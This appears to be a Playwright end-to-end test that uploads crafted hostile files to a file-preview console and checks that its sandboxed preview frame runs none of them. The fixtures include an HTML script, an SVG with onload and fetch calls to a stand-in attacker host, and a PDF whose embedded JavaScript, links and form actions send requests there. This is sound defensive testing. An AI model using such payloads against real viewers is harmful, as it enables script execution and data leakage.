import type { House } from '@coffer/testkit';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import type { Window } from './administration-journey.ts';

/** Nobody is there; a request to it is a complaint. */
const elsewhere = 'https://attacker.example/';
const folder = 'Received';

/** What somebody may be sent who wishes the administrator ill: each would reach the console, or tell somebody outside, if it were run. */
const hostile: Readonly<Record<string, string>> = {
  'Invoice.pdf': hostilePdf(),
  'Letter.html': `<title>x</title><script>parent.document.title = 'taken'</script><img src="${elsewhere}html.png">`,
  'Logo.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="alert('run')"><script>fetch('${elsewhere}')</script><image href="${elsewhere}svg.png" width="9" height="9"/><circle cx="40" cy="40" r="30" fill="teal"/></svg>`,
  'Broken.pdf': '%PDF-1.7\nand nothing more',
};
const damaged = 'Damaged.pdf';

/** Lays the hostile files into a person's OneDrive. */
export async function receiveHostile({ practice }: House, user: string): Promise<void> {
  for (const [name, content] of Object.entries({ ...hostile, [damaged]: damagedPdf() }))
    await practice.write(user, `${folder}/${name}`, content);
}

/** Looks at what was received: it is seen, and nothing of it runs or asks for anything. Begins and ends in an opened restore point. */
export async function previewJourney({ page, noViolations }: Pick<Window, 'page' | 'noViolations'>): Promise<void> {
  const title = await page.title();
  const questions: string[] = [];
  page.on('dialog', (question) => questions.push(question.message()));
  await rowsByKeyboard(page);
  await page.getByRole('button', { name: folder }).click();
  const dialog = page.getByRole('dialog');
  const shown = dialog.frameLocator('iframe');
  const open = async (name: string): Promise<void> => await page.getByRole('button', { name }).click();
  const close = async (): Promise<void> => {
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
  };
  await open('Invoice.pdf');
  const sheet = shown.getByRole('region', { name: 'Page 1 of 1' });
  await sheet.locator('canvas').waitFor();
  // The text lies unseen above the picture, for search and screen readers.
  await sheet.getByText('Figures of the quarter').waitFor({ state: 'attached' });
  expect(await withinFrame(page, 'self.origin')).toBe('null');
  await expect(withinFrame(page, 'parent.document.title')).rejects.toThrow(/cross-origin|SecurityError/);
  expect(await withinFrame(page, "document.querySelectorAll('a, form, input, iframe').length")).toBe(0);
  await noViolations();
  await staysWhileResized(page);
  await wearsTheColours(page);
  // The frame has the keyboard; Escape closes the dialog all the same.
  await sheet.click();
  await close();
  await open(damaged);
  await shown
    .getByRole('region', { name: 'Page 1 of 3' })
    .getByText('Figures of the quarter')
    .waitFor({ state: 'attached' });
  await shown.getByRole('region', { name: 'Page 2 of 3' }).getByText('There is nothing on this page').waitFor();
  const last = shown.getByRole('region', { name: 'Page 3 of 3' });
  await last.scrollIntoViewIfNeeded();
  await last.getByText('This page cannot be shown').waitFor();
  await noViolations();
  await close();
  await open('Letter.html');
  await shown.getByText("<script>parent.document.title = 'taken'</script>").waitFor();
  await close();
  await open('Logo.svg');
  await shown.getByRole('img', { name: 'Logo.svg' }).waitFor();
  await close();
  await open('Broken.pdf');
  await dialog.getByText('It cannot be shown').waitFor();
  await close();
  expect([await page.title(), questions]).toEqual([title, []]);
  await page.getByRole('button', { name: 'Top folder' }).click();
}

/** A page of a PDF that is shown stays in sight while the window changes, and is then as sharp as it was. */
async function staysWhileResized(page: Page): Promise<void> {
  const size = page.viewportSize() ?? { width: 1280, height: 720 };
  const width = async (): Promise<unknown> => await withinFrame(page, "document.querySelector('canvas').width");
  const sharp = "document.querySelector('canvas').width === document.querySelector('.page').clientWidth";
  const soon = { timeout: 20_000 };
  const before = Number(await width());
  await withinFrame(
    page,
    `(() => {
      const isWhite = (canvas) => canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data.every((value) => value === 255);
      self.bare = 0;
      const look = () => {
        const canvas = document.querySelector('.page canvas');
        if (canvas === null || canvas.width === 0 || isWhite(canvas)) self.bare += 1;
        requestAnimationFrame(look);
      };
      look();
    })()`,
  );
  for (const narrower of [200, 400, 600]) await page.setViewportSize({ ...size, width: size.width - narrower });
  await expect
    .poll(() => withinFrame(page, `${sharp} && document.querySelector('canvas').width < ${before}`), soon)
    .toBe(true);
  await page.setViewportSize(size);
  await expect.poll(width, soon).toBe(before);
  expect(await withinFrame(page, 'self.bare')).toBe(0);
}

/** The frame is as dark as its page, at once when that changes. */
async function wearsTheColours(page: Page): Promise<void> {
  const colour = async (): Promise<unknown> =>
    await withinFrame(page, 'getComputedStyle(document.documentElement).backgroundColor');
  const light = await colour();
  await page.emulateMedia({ colorScheme: 'dark' });
  await expect.poll(colour, { timeout: 20_000 }).not.toBe(light);
  await page.emulateMedia({ colorScheme: null });
  await expect.poll(colour, { timeout: 20_000 }).toBe(light);
}

/** The rows of a folder are reached without a mouse, whether they exist already or not, and say which of how many they are. */
async function rowsByKeyboard(page: Page): Promise<void> {
  const rows = page.getByRole('main').getByRole('list', { name: 'What lies in this folder' }).getByRole('listitem');
  await rows.first().getByRole('checkbox').focus();
  const at = async (): Promise<unknown> => await page.evaluate("document.activeElement?.closest('li')?.ariaPosInSet");
  const count = await rows.first().getAttribute('aria-setsize');
  const way: number[] = [];
  for (const key of ['End', 'Home', 'ArrowDown', 'PageDown', 'PageUp', 'ArrowUp', 'ArrowUp']) {
    await page.keyboard.press(key);
    way.push(Number(await at()));
  }
  expect(way.slice(0, 3)).toEqual([Number(count), 1, 2]);
  expect(way[3]).toBeGreaterThan(3);
  expect(way[4]).toBeLessThan(4);
  expect(way.at(-1)).toBe(1);
}

async function withinFrame(page: Page, expression: string): Promise<unknown> {
  return await page
    .frames()
    .find((frame) => frame.url().endsWith('/preview'))
    ?.evaluate(expression);
}

/** A page with a line of text, and everything by which a PDF runs something: a script and an address when it opens, a link and a form over the page. */
function hostilePdf(): string {
  const line = 'BT /F1 24 Tf 40 120 Td (Figures of the quarter) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [8 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> >>',
    `<< /Length ${line.length} >>\nstream\n${line}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /S /JavaScript /JS (app.alert\\('run'\\); app.launchURL\\('${elsewhere}js'\\); this.submitForm\\('${elsewhere}form'\\);) /Next << /S /URI /URI (${elsewhere}uri) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /A << /S /URI /URI (${elsewhere}link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 200] /A << /S /SubmitForm /F (${elsewhere}submit) >> /AA << /E 6 0 R >> >>`,
  ];
  return pdfOf(objects);
}

/** Of three pages the third is not there, and what is on the second cannot be read. */
function damagedPdf(): string {
  const line = 'BT /F1 24 Tf 40 120 Td (Figures of the quarter) Tj ET';
  const page = (content: string): string =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents ${content} /Resources << /Font << /F1 5 0 R >> >> >>`;
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R 6 0 R 99 0 R] /Count 3 >>',
    page('4 0 R'),
    `<< /Length ${line.length} >>\nstream\n${line}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    page('7 0 R'),
    '<< /Length 20 /Filter /FlateDecode >>\nstream\nno compressed content\nendstream',
  ]);
}

/** A PDF of these objects, the first of which is its catalogue. */
function pdfOf(objects: readonly string[]): string {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
}
